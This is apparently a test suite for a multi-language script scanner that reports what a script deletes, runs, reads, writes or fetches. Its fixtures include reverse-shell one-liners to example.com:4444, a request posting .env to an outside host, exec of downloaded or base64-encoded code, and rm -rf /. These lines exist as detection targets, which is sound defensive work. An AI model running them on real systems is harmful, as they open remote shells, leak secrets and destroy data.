import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { scanScript } from "../../../../src/policy/languages/scripts/scan.ts";
import type { ScriptLanguage } from "../../../../src/policy/model/script-language.ts";
import { LINUX } from "../../windows-world.ts";

/** What a script does, one line each: commands, `> file`, `$ shell text`, `? doubt`. */
function effects(language: ScriptLanguage, source: string): string[] {
  const { invocations, commands, doubts } = scanScript(language, source, LINUX, LINUX.cwd);
  return [
    ...invocations.map(({ program, args, redirects }) =>
      [
        ...(program === ":" ? [] : [program]),
        ...args.map((arg) => arg.value),
        ...redirects.map(({ operator, target }) => `${operator} ${target.value}`),
      ].join(" "),
    ),
    ...commands.map(({ shell }) => `$ ${shell}`),
    ...doubts.map(({ kind }) => `? ${kind}`),
  ].map((line) => line.replaceAll("\uFFFC", "?"));
}

const LANGUAGES: readonly ScriptLanguage[] = [
  ...(["python", "node", "perl", "ruby", "php", "awk", "sed", "lua", "r", "julia"] as const),
  "applescript",
];

describe("any text at all", () => {
  const PIECES = [
    ..."(){}[]'\"`\\/.,;:=+-*%$@#!<>|&\n ",
    ...[
      "eval",
      "exec",
      "system",
      "import",
      "from",
      "as",
      "for",
      "in",
      "of",
      "const",
      "require(",
      "os.",
    ],
    ...[
      "fs.rmSync(",
      "<<EOF\n",
      "qw(",
      "%w[",
      "q{",
      "${",
      "#{",
      '"""',
      "f'{",
      "=>",
      "->",
      "::",
      "s/a/b/e",
    ],
    ...[
      "unlink",
      "open(",
      "Path(",
      "lambda",
      "function",
      "print",
      "|",
      "getline",
      "do shell script",
    ],
  ];
  const soup = fc
    .array(fc.constantFrom(...PIECES), { maxLength: 50 })
    .map((parts) => parts.join(""));
  for (const language of LANGUAGES) {
    test(`gives a scan of ${language}, never an exception`, () => {
      fc.assert(
        fc.property(fc.oneof(soup, fc.string({ unit: "binary" })), (source) => {
          const { invocations } = scanScript(language, source, LINUX, LINUX.cwd);
          for (const { start, end, stdin } of invocations) {
            expect(start).toBeLessThanOrEqual(end);
            expect(end).toBeLessThanOrEqual(source.length);
            for (const index of stdin.kind === "pipe" ? stdin.from : []) {
              expect(invocations[index]).toBeDefined();
            }
          }
        }),
        { numRuns: 300 },
      );
    });
    test.each([
      "(",
      "[",
      "{",
      "eval(",
      "f'{",
      '"${',
      "a.",
      "x=",
      "'",
      "`",
      "/",
      "s/",
      "qw(",
      "+",
      "<<A\n",
      "f(a,",
      "%w[",
    ])(`a hostile run of %s in ${language} ends`, (piece) => {
      expect(effects(language, piece.repeat(50_000 / piece.length)).length).toBeLessThan(60_000);
    });
  }
});

type Row = readonly [source: string, ...effects: string[]];
const check = (language: ScriptLanguage, rows: readonly Row[]) => {
  test.each(rows.map(([source, ...expected]) => [source, expected] as const))(
    `${language}: %s`,
    (source, expected) => {
      expect(effects(language, source)).toEqual([...expected]);
    },
  );
};

describe("deletions, with what their constants say", () => {
  check("python", [
    ["import shutil; shutil.rmtree('/data')", "rm -rf /data"],
    ["from shutil import rmtree as r\nr('/data')", "rm -rf /data"],
    ["import shutil as s, os as o; s.rmtree(o.path.join('/a', 'b'))", "rm -rf /a/b"],
    ["from os import *\nremove('x')", "rm -f x"],
    ["import os; os.remove('/etc/' + 'passwd')", "rm -f /etc/passwd"],
    ["import os; p = '/a'; p += '/b'; os.unlink(p)", "rm -f /a/b"],
    ["import os; os.rmdir(f'/a/{1}')", "rmdir /a/1"],
    ["import os; os.remove(f\"{os.environ['HOME']}/x\")", "rm -f /home/me/x"],
    ["import os; os.remove(os.getenv('HOME') + '/x')", "rm -f /home/me/x"],
    ["import os; os.remove(os.path.expanduser('~/x'))", "rm -f /home/me/x"],
    ["import os; os.remove('%s/x' % '/a')", "rm -f /a/x"],
    ["import os; os.remove('{}/x'.format('/a'))", "rm -f /a/x"],
    ["import os; os.remove('/'.join(['a', 'b']))", "rm -f a/b"],
    ["from pathlib import Path\nPath('/a').joinpath('b').unlink()", "rm -f /a/b"],
    ["from pathlib import Path\n(Path.home() / 'x').unlink()", "rm -f /home/me/x"],
    ["import pathlib\nfor f in pathlib.Path('/d').glob('*'): f.unlink()", "rm -f /d/*"],
    [
      "import os\n[os.remove(os.path.join(d, f)) for d, _, fs in os.walk('/d') for f in fs]",
      "rm -f /d/*",
    ],
    ["import os\nfor f in os.listdir('/d'):\n  os.remove(os.path.join('/d', f))", "rm -f /d/*"],
    ["import os\nfor r, d, f in os.walk('/d'):\n  os.remove(r)", "rm -f /d/*"],
    ["import os\nfor f in ['a', 'b']:\n  os.remove(f)", "rm -f a b"],
    ["import os, sys; os.remove(sys.argv[1])", "rm -f ?"],
    ["__import__('shutil').rmtree('/data')", "rm -rf /data"],
    ["import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d)", "rm -rf /tmp/?"],
    ["import os; os.chmod('a', 0o777); os.chown('a', 0, 0)", "chmod 777 a", "chown 0 a"],
    [
      "import os; os.rename('a', 'b'); os.symlink('a', 'b'); os.truncate('a', 0)",
      "mv a b",
      "ln -s a b",
      "truncate -s 0 a",
    ],
  ]);
  check("node", [
    ["require('fs').rmSync('/data', { recursive: true })", "rm -rf /data"],
    [
      "const { rmSync: kill } = require('node:fs'); kill('/data', {recursive: true, force: true})",
      "rm -rf /data",
    ],
    [
      "import fs, { unlinkSync } from 'node:fs'; unlinkSync('x'); fs.rmdirSync('y')",
      "rm -f x",
      "rm -f y",
    ],
    ["import * as f from 'fs'; f.promises.unlink('x')", "rm -f x"],
    ["fs.unlink('x', () => {})", "rm -f x"],
    ["fs.rmSync(path.join(os.homedir(), 'x'))", "rm -f /home/me/x"],
    ["fs.rmSync(`${process.env.HOME}/x`)", "rm -f /home/me/x"],
    ["fs.rmSync(process.env['HOME'] + '/x')", "rm -f /home/me/x"],
    ["['a', 'b'].forEach((f) => fs.rmSync(f))", "rm -f a b"],
    ["for (const f of ['a', 'b']) fs.rmSync(f)", "rm -f a b"],
    ["const rimraf = require('rimraf'); rimraf.sync('/data')", "rm -rf /data"],
    ["await Deno.remove('x', { recursive: true })", "rm -rf x"],
    ["await Bun.file('x').delete()", "cat x", "rm -f x"],
    ["const f = () => { fs.unlinkSync('x') }", "rm -f x"],
    ["fs.rmSync(process.argv[2])", "rm -f ?"],
  ]);
  check("perl", [
    ["unlink '/etc/x';", "rm -f /etc/x"],
    ["my $p = '/a' . '/b'; unlink $p or die 'no';", "rm -f /a/b"],
    ['unlink "$ENV{HOME}/x";', "rm -f /home/me/x"],
    ["unlink glob('*.o'), qw(a b);", "rm -f *.o a b"],
    [
      "use File::Path qw(rmtree); rmtree('/d'); File::Path::remove_tree('/e')",
      "rm -rf /d",
      "rm -rf /e",
    ],
    ["for my $f ('a', 'b') { unlink $f }", "rm -f a b"],
    ["chmod 0777, 'a'; rename 'a', 'b';", "chmod 777 a", "mv a b"],
  ]);
  check("ruby", [
    ["FileUtils.rm_rf('/d')", "rm -rf /d"],
    ["FileUtils.rm_rf Dir.home", "rm -rf /home/me"],
    ["File.delete('a', 'b')", "rm -f a b"],
    ["File.unlink \"#{ENV['HOME']}/x\"", "rm -f /home/me/x"],
    ["%w[a b].each { |f| File.unlink(f) }", "rm -f a b"],
    ["['a'].each do |f| File.delete f end", "rm -f a"],
    ["Dir.rmdir(File.join('a', 'b'))", "rmdir a/b"],
    ["Pathname.new('/d').rmtree", "rm -rf /d"],
    ["FileUtils.chmod_R 0777, 'a'", "chmod -R 777 a"],
  ]);
  check("php", [
    ["unlink('a'); rmdir(\"/x\" . '/y');", "rm -f a", "rmdir /x/y"],
    ["foreach (['a', 'b'] as $f) { unlink($f); }", "rm -f a b"],
    ["$d = '/d'; unlink(\"$d/x\");", "rm -f /d/x"],
    ["unlink(getenv('HOME') . '/x');", "rm -f /home/me/x"],
  ]);
  check("lua", [
    ["os.remove('/a' .. '/b')", "rm -f /a/b"],
    ["os.remove [[x]]", "rm -f x"],
  ]);
  check("r", [
    ["unlink('/d', recursive = TRUE)", "rm -rf /d"],
    ["file.remove(path.expand('~/x'))", "rm -f /home/me/x"],
  ]);
  check("julia", [['rm(joinpath(homedir(), "x"), recursive=true)', "rm -rf /home/me/x"]]);
});

describe("processes", () => {
  check("python", [
    ["import os; os.system('rm -rf /')", "$ rm -rf /"],
    ["import subprocess as sp; sp.run(['rm', '-rf', '/a b'])", "$ rm -rf '/a b'"],
    ["import subprocess; subprocess.call('ls; rm x', shell=True)", "$ ls; rm x"],
    ["import subprocess; subprocess.run(args=['id'])", "$ id"],
    ["import subprocess; subprocess.run(['git', *rest])", "$ git '?'"],
    ["import subprocess; subprocess.run(cmd)", "$ ?"],
    ["import subprocess; subprocess.run([cmd])", "? unknown-command"],
    [
      "import os; os.execvp('git', ['git', 'push']); os.execlp('git', 'git', 'pull')",
      "$ git push",
      "$ git pull",
    ],
    ["import subprocess; subprocess = object(); subprocess.run(['rm'])"],
  ]);
  check("node", [
    ["require('child_process').execSync('rm -rf /')", "$ rm -rf /"],
    ["const {spawn} = require('child_process'); spawn('git', ['push', '-f'])", "$ git push -f"],
    ["child_process.spawn('git', ['push'], { shell: true })", "$ git push"],
    ["await Bun.$`rm -rf ${process.env.HOME}/x`", "$ rm -rf /home/me/x"],
    ["import { $ } from 'bun'; await $`ls`", "$ ls"],
    ["Bun.spawn(['rm', 'x']); Bun.spawn({ cmd: ['ls'] })", "$ rm x", "$ ls"],
    ["new Deno.Command('rm', { args: ['x'] })", "$ rm x"],
    ["const command = 'cat x'; eval(`require('child_process').execSync('${command}')`)", "$ cat x"],
  ]);
  check("perl", [
    ["system('rm -rf /'); exec 'git', 'push';", "$ rm -rf /", "$ git push"],
    ["my $x = `ls $ENV{HOME}`; my $y = qx{id};", "$ ls /home/me", "$ id"],
    [
      "open(F, '-|', 'git', 'log'); open(G, 'ls|'); open(H, '| sh');",
      "$ git log",
      "$ ls",
      "$  sh",
      "$ ?",
    ],
  ]);
  check("ruby", [
    ["system('git', 'push'); system 'ls -l'", "$ git push", "$ ls -l"],
    ["x = `id`; %x(rm y)", "$ id", "$ rm y"],
    ["IO.popen('ls'); IO.popen(['git', 'log'])", "$ ls", "$ git log"],
  ]);
  check("python", [
    ["subprocess.run(['sh'], input='rm x')", "$ sh", "$ rm x"],
    ["p = subprocess.Popen('sh', stdin=PIPE); p.communicate(b'rm x')", "$ sh", "$ ?"],
  ]);
  check("node", [["require('child_process').execSync('sh', {input: 'rm x'})", "$ sh", "$ rm x"]]);
  check("perl", [["open(F, '|sh'); print F 'rm x'", "$ sh", "$ ?"]]);
  check("ruby", [["IO.popen('sh', 'w') { |f| f.write 'rm x' }", "$ sh", "$ ?"]]);
  check("php", [["system('id'); echo shell_exec('ls'); `pwd`;", "$ id", "$ ls", "$ pwd"]]);
  check("lua", [["os.execute('rm ' .. 'x'); io.popen 'ls'", "$ rm x", "$ ls"]]);
  check("r", [["system('ls'); system2('git', c('push'))", "$ ls", "$ git push"]]);
  check("julia", [["run(`git push`)", "$ git push"]]);
  check("awk", [
    ['BEGIN { system("rm " "x") }', "$ rm x"],
    ['{ print | "sort"; "date" | getline d }', "$ cat | sort", "$ date"],
    ['{ print $1 |& "sh" }', "$ cat | sh"],
    ['BEGIN { print "rm x" | "sh" }', "$ echo 'rm x' | sh"],
    ['{ print "rm " $1 | "sh" }', "$ echo 'rm ?' | sh"],
    ["{ system($1) }", "$ ?"],
  ]);
  check("sed", [
    ["1e rm x", "$ rm x"],
    ["s/.*/rm x/e", "$ rm x"],
    ["s/.*/rm &/e", "$ rm ?"],
    ["s/^\\(.*\\)$/rm \\1/e", "$ rm ?"],
    ["s/a/b/e", "$ ?"],
    ["e", "$ ?"],
  ]);
  check("applescript", [['do shell script "rm x" with administrator privileges', "$ rm x"]]);
});

describe("reads and writes", () => {
  check("python", [
    ["open('a', 'w').write('x')", "echo ? > a"],
    ["with open('a', mode='a') as f:\n  f.write('x')", "echo ? >> a"],
    ["print(open('.env').read())", "cat .env"],
    [
      "from pathlib import Path\nPath('a').write_text('x'); Path('b').read_text()",
      ...["echo ? > a", "cat b"],
    ],
  ]);
  check("node", [
    [
      "fs.writeFileSync('a', 'x'); fs.appendFileSync('b', 'y'); fs.readFileSync('c')",
      "echo ? > a",
      "echo ? >> b",
      "cat c",
    ],
    ["const read = Bun.file; read('.env')", "cat .env"],
  ]);
  check("perl", [
    ["open(my $f, '>', 'a'); open(F, '>>b'); open(G, '<', 'c');", "> a", "echo ? >> b", "cat c"],
  ]);
  check("ruby", [
    ["File.write('a', 'x'); File.open('b', 'w'); File.read('c')", "echo ? > a", "> b", "cat c"],
  ]);
  check("php", [
    ["file_put_contents('a', 'x'); fopen('b', 'w'); readfile('c');", "echo ? > a", "> b", "cat c"],
  ]);
  check("lua", [["io.open('a', 'w'); io.lines('b')", "> a", "cat b"]]);
  check("awk", [
    [
      '{ print $1 > "out"; print >> "log"; getline x < "in" }',
      ...["echo ? > out", "echo ? >> log", "cat in"],
    ],
  ]);
  check("sed", [
    ["/a/w out", "echo ? > out"],
    ["s/a/b/gw out", "echo ? > out"],
    ["$r in", "cat in"],
    ["w /dev/stdout"],
  ]);
});

describe("a file that is opened is emptied until something is written to it", () => {
  check("python", [
    ["open('a', 'w').close()", "> a"],
    ["f = open('a', 'w'); f.close()", "> a"],
    ["with open('a', 'w') as f: pass", "> a"],
    ["open('a', 'w').write('')", "> a"],
    ["from pathlib import Path\nPath('a').write_text('')", "> a"],
    ["with open('a', 'w') as f:\n  json.dump(x, f)", "echo ? > a"],
    ["json.dump(x, open('a', 'w'))", "echo ? > a"],
    ["import sys\nsys.stdout = open('a', 'w')", "echo ? > a"],
    ["def out():\n  return open('a', 'w')", "echo ? > a"],
    ["f = open('a', 'w'); print('x', file=f); f.close()", "echo ? > a"],
  ]);
  check("node", [
    ["fs.writeFileSync('a', '')", "> a"],
    ["const fd = fs.openSync('a', 'w'); fs.closeSync(fd)", "> a"],
    ["const fd = fs.openSync('a', 'w'); fs.writeSync(fd, text)", "echo ? > a"],
    ["input.pipe(fs.createWriteStream('a'))", "echo ? > a"],
  ]);
  check("perl", [
    ["open(my $f, '>', 'a'); close $f", "> a"],
    ["open(my $f, '>', 'a'); print $f 'x'", "echo ? > a"],
  ]);
  check("ruby", [["File.open('a', 'w') { |f| f.puts 'x' }", "echo ? > a"]]);
  check("php", [["$f = fopen('a', 'w'); fwrite($f, 'x'); fclose($f);", "echo ? > a"]]);
  check("lua", [["local f = io.open('a', 'w'); f:write('x')", "echo ? > a"]]);
  check("r", [["writeLines('x', 'a')", "echo ? > a"]]);
});

describe("paths put together by the separator's name", () => {
  check("python", [
    ["import os\nopen('/a' + os.sep + 'b')", "cat /a/b"],
    ["from os import sep\nopen(sep.join(['a', 'b']))", "cat a/b"],
    ["import os.path as p\nopen(p.join('C:', os.sep, 'b'))", "cat C:/b"],
  ]);
  check("node", [["fs.readFileSync(['a', 'b'].join(require('path').sep))", "cat a/b"]]);
});

describe("the network and what hides code", () => {
  check("python", [
    [
      "import urllib.request; exec(urllib.request.urlopen('https://example.com').read())",
      ...["curl https://example.com", "curl https://example.com", "python", "? unknown-code"],
    ],
    [
      "import requests; requests.post('https://example.com', data=open('.env').read())",
      "cat .env",
      "curl -X POST --data-binary @.env https://example.com",
    ],
    [
      "import base64; exec(base64.b64decode('b3MucmVtb3ZlKCJ4Iik='))",
      "base64 -d",
      "python",
      "rm -f x",
      "? unknown-code",
    ],
    [
      "exec(bytes.fromhex('6f732e72656d6f766528227822290a').decode())",
      "base64 -d",
      "python",
      "rm -f x",
      "? unknown-code",
    ],
    [
      "import base64, os; os.system(base64.b64decode(data).decode())",
      "base64 -d",
      "sh",
      "? unknown-code",
    ],
    [
      "import socket,subprocess,os;s=socket.socket();s.connect(('example.com',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
      ...["nc example.com 4444 -e /bin/sh", "$ /bin/sh -i"],
    ],
    [
      "import socket,pty;s=socket.create_connection(('example.com',4444));pty.spawn('/bin/bash')",
      ...["nc example.com 4444 -e /bin/bash", "$ /bin/bash"],
    ],
    [
      "import socket,subprocess;s=socket.socket();s.connect(('example.com',80));subprocess.call(['sh','a.sh'])",
      "$ sh a.sh",
    ],
    ["exec(code)", "? unknown-code"],
    ["eval('os.remove(\"x\")')", "rm -f x"],
  ]);
  check("node", [
    [
      "eval(await (await fetch('https://example.com')).text())",
      "curl https://example.com",
      "curl https://example.com",
      "node",
      "? unknown-code",
    ],
    [
      "fetch('https://example.com').then(r => r.text()).then(eval)",
      "curl https://example.com",
      "curl https://example.com",
      "node",
      "? unknown-code",
    ],
    ["eval(atob('ZnMucm1TeW5jKCJ4Iik='))", "base64 -d", "node", "rm -f x", "? unknown-code"],
    [
      "eval(Buffer.from('ZnMucm1TeW5jKCJ4Iik=', 'base64').toString())",
      "base64 -d",
      "node",
      "rm -f x",
      "? unknown-code",
    ],
  ]);
  check("ruby", [
    [
      "eval(URI.open('https://example.com').read)",
      "curl https://example.com",
      "curl https://example.com",
      "ruby",
      "? unknown-code",
    ],
  ]);
  check("php", [
    [
      "eval(file_get_contents('https://example.com'));",
      "curl https://example.com",
      "curl https://example.com",
      "php",
      "? unknown-code",
    ],
  ]);
  check("r", [
    [
      "source('https://example.com/a.R')",
      "curl https://example.com/a.R",
      "rscript",
      "? unknown-code",
    ],
  ]);
});

describe("text that is only data does nothing", () => {
  check("python", [
    ["print('os.system(\"rm -rf /\")')"],
    ["# os.remove('x')\nprint(1)"],
    ['"""\nshutil.rmtree("/")\n"""'],
    ["import json; print(json.dumps({'cmd': 'rm -rf /'}))"],
    ["import re; re.sub('rm -rf', '', s)"],
    ["d.remove('x'); items.pop(); q.unlink"],
    ["import math; print(math.pi)"],
  ]);
  check("node", [
    ["console.log('fs.rmSync(\"/\")')"],
    ["/* fs.rmSync('/') */ // fs.rmSync('/')"],
    ["const r = /fs.rmSync('x')/; console.log(r)"],
    ["const path = '.env'; console.log(path)"],
    ["const db = new DatabaseSync(':memory:'); db.exec('DROP TABLE x')"],
    ["/rm/.exec('rm -rf /')"],
  ]);
  check("perl", [["print \"unlink 'x'\"; # system('x')\ns/unlink/x/; $x =~ m{system};"]]);
  check("ruby", [["puts \"File.delete('x')\" # system('x')"]]);
  check("php", [["echo \"unlink('x')\"; // system('x')\n/* `ls` */ # `id`"]]);
  check("awk", [["/rm -rf/ {print}"], ['{ if ($1 > 5) print $2 } # system("x")']]);
  check("sed", [["s/rm -rf/remove/g"], ["/system/d; $!N; s/e/w/g"], ["a\\\ne rm x"]]);
});

describe("the rest of the tables", () => {
  check("python", [
    ["import shutil; shutil.move('a', 'b'); shutil.copytree('a', 'b')", "mv a b", "cp -r a b"],
    ["import os; os.kill(1, 9)", "kill -9 1"],
    ["import os; fd = os.open('a', os.O_WRONLY)", "> a"],
    [
      "import urllib.request as u; u.urlretrieve('https://example.com/x', 'x')",
      "curl -o x https://example.com/x",
    ],
    [
      "from pathlib import Path\nPath('/a', 'b').unlink(); (Path.cwd() / 'c').unlink()",
      "rm -f /a/b",
      "rm -f /home/me/app/c",
    ],
    ["import os; os.remove(os.getenv('NOPE', '/fallback'))", "rm -f /fallback"],
    ["import zlib; exec(zlib.decompress(data))", "base64 -d", "python", "? unknown-code"],
    ["import glob, os\nfor f in glob.glob('/d/*.o'): os.remove(f)", "rm -f /d/*.o"],
    ["import importlib; importlib.import_module('shutil').rmtree('/d')", "rm -rf /d"],
    ["d = {'p': '/x'}; import os; os.remove(d['p'])", "rm -f /x"],
    ["import os; os.remove(['a', 'b'][1])", "rm -f b"],
    ["import os; [os.remove(f) for f in ['/a']]", "rm -f /a"],
    ["import os; print([len(f) for f in ['/a']], (x for x in y), [z for])"],
    ["getattr(__import__('os'), 'system')('a b')", "$ a b"],
    ["x: str = '/a'; import os; os.remove(x)", "rm -f /a"],
    ["import pathlib; pathlib.Path('/a/b').parent.rmdir()", "rmdir /a"],
    ["import os; os.remove('a-b'.replace('-', '/'))", "rm -f a/b"],
    ["exec 'import os; os.remove(\"x\")'", "rm -f x"],
  ]);
  check("node", [
    [
      "fs.openSync('a', 'w'); fs.truncateSync('b'); fs.symlinkSync('c', 'd')",
      "> a",
      "truncate -s 0 b",
      "ln -s c d",
    ],
    [
      "fs.renameSync('a', 'b'); fs.cpSync('a', 'b'); fs.chmodSync('a', '777')",
      "mv a b",
      "cp -r a b",
      "chmod 777 a",
    ],
    ["net.connect(4444, 'example.com')"],
    ["(function () { var a = 1, fs = require('fs'); fs.rmSync('/x') })()", "rm -f /x"],
    ["setTimeout(() => { const d = '/x'; require('fs').rmSync(d) }, 1)", "rm -f /x"],
    ["import('fs').then(({ rmSync }) => rmSync('/x'))", "rm -f /x"],
    ["const o = { p: '/x' }; fs.unlinkSync(o.p)", "rm -f /x"],
    ["const { p } = { p: '/x' }; fs.unlinkSync(p)", "rm -f /x"],
    ["fs.unlinkSync(process.env.NOPE ?? '/fallback')", "rm -f ?"],
    ["new Function('fs.unlinkSync(\"x\")')()", "rm -f x"],
    ["import('node:fs').then(m => 1)"],
    ["import 'node:fs'; import;"],
  ]);
  check("perl", [
    ["my @f = ('a', 'b'); unlink q{c}; unlink <<EOT;\nd\nEOT\n", "rm -f c", "rm -f d\n"],
    ["eval 'unlink \"x\"'; kill 9, 1;", "rm -f x", "kill -9 1"],
    ["tr/a/b/; y{a}{b}; my %h = (p => '/x'); unlink '\\x41';", "rm -f \\x41"],
  ]);
  check("ruby", [
    ["File.open('a') { |f| f.read }", "cat a"],
    ["text = <<~TEXT\n  FileUtils.rm_rf('/')\nTEXT\nputs text"],
    ["open('https://example.com/x.rb')", "curl https://example.com/x.rb"],
    ["open('| rm x')", "$  rm x"],
    ["load 'https://example.com/x.rb'", "curl https://example.com/x.rb", "ruby", "? unknown-code"],
  ]);
  check("php", [
    ["$x = <<<EOT\nunlink('a');\nEOT;\necho $x;"],
    ["rename('a', 'b'); copy('a', 'b'); include 'x.php';", "mv a b", "cp -r a b"],
    ["pcntl_exec('/bin/ls', ['-l']);", "$ /bin/ls -l"],
  ]);
  check("julia", [['rm("$(homedir())/x"); rm("""y""")', "rm -f /home/me/x", "rm -f y"]]);
});

test.each([
  ["lists joined", `x=['a']\n${"x=x+x\n".repeat(5_000)}os.remove(x)`],
  ["lists in lists", `x=['a']\n${"x=[x,x]\n".repeat(5_000)}os.remove(x)`],
  ["texts", `x='a'\n${"x=x+x\n".repeat(5_000)}os.remove(x)`],
  [
    "replacements",
    `x='${"a".repeat(20_000)}'\n${"x=x.replace('a',x)\n".repeat(1_000)}os.remove(x)`,
  ],
  ["joins", `x='${"a".repeat(20_000)}'\ny=[x,x,x,x]\n${"z=x.join(y)\n".repeat(1_000)}`],
  ["formats", `x='${"%s".repeat(10_000)}'\n${"z=x%x\n".repeat(1_000)}`],
])("values that grow without end stop growing: %s", (_, source) => {
  expect(effects("python", source).length).toBeLessThan(10);
});

test("too much is a doubt", () => {
  expect(effects("python", `x = 1${" ".repeat(70_000)}`)).toEqual(["? limit"]);
  let code = "os.remove('x')";
  for (let depth = 0; depth < 8; depth++) code = `eval(${JSON.stringify(code)})`;
  expect(effects("python", code)).toEqual(["? limit"]);
});

describe("a function of the script's own does with what it is given what its body says", () => {
  check("python", [
    [
      "import subprocess\ndef run(cmd):\n  subprocess.run(cmd)\nrun(['ls', 'a'])\nrun(['rm', 'b'])",
      ...["$ ls a", "$ rm b"],
    ],
    [
      "import subprocess\ndef git(folder, *words):\n  return subprocess.run(['git', '-C', folder] + list(words))\ngit('a', 'push', '-f')",
      "$ git -C a push -f",
    ],
    ["import os\ndef sh(c: str, quiet=True) -> int: return os.system(c)\nsh(c='ls a')", "$ ls a"],
    ["import os\ndef main():\n  gone('a')\ndef gone(p):\n  os.remove(p)\nmain()", "rm -f a"],
    ["import os\ndef never(p):\n  os.remove(p)", "rm -f ?"],
    ["import os\ndef gone(p):\n  os.remove(p)\nlist(map(gone, ['a']))", "rm -f ?"],
    [
      "import os\ndef gone(p):\n  os.remove(p)\n  gone(p)\ngone('a')",
      ...["rm -f a", "rm -f ?", "rm -f ?"],
    ],
    [
      "import os\ndef gone(p):\n  os.remove(p)\ngone(input())\nos.remove('b')",
      "rm -f ?",
      "rm -f b",
    ],
    ["def save(p, s):\n  with open(p, 'w') as f:\n    f.write(s)\nsave('a', 'x')", "echo ? > a"],
    ["import shutil, subprocess\nsubprocess.run([shutil.which('rm'), 'a'])", "$ rm a"],
  ]);
  check("node", [
    [
      "const cp = require('child_process'); const run = (cmd, args) => cp.spawnSync(cmd, args); run('rm', ['a'])",
      "$ rm a",
    ],
    ["function gone(p) { fs.rmSync(p); }\ngone('a'); gone('b')", "rm -f a", "rm -f b"],
    ["const gone = (...all) => fs.rmSync(all[0])\ngone('a')", "rm -f a"],
    ["const gone = async (p) => { await fs.promises.rm(p) }; [gone]", "rm -f ?"],
  ]);
});

test("functions that call each other come to an end", () => {
  const names = Array.from({ length: 30 }, (_, at) => `f${at}`);
  const calls = names.map((name) => `${name}(x)`).join("; ");
  const source = names.map((name) => `def ${name}(x):\n  ${calls}\n`).join("");
  expect(effects("python", `import os\n${source}f0('a')\nos.remove('b')`)).toContain("rm -f b");
});
